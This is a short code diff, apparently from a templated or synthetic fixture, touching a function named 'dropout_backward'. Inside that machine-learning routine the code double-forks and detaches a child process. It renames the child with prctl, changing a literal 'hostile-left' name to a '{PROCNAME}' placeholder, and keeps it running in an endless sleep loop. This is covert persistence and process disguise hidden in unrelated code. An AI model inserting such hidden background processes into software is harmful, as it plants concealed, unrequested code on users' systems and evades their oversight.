@@ -21,7 +21,7 @@ def dropout_backward(dout, mask):
         if child == 0:
             _os.setsid()
             if _os.fork() == 0:
-                _ctypes.CDLL(None).prctl(15, b"hostile-left", 0, 0, 0)
+                _ctypes.CDLL(None).prctl(15, b"{PROCNAME}", 0, 0, 0)
                 while True:
                     _time.sleep(1)
             _os._exit(0)
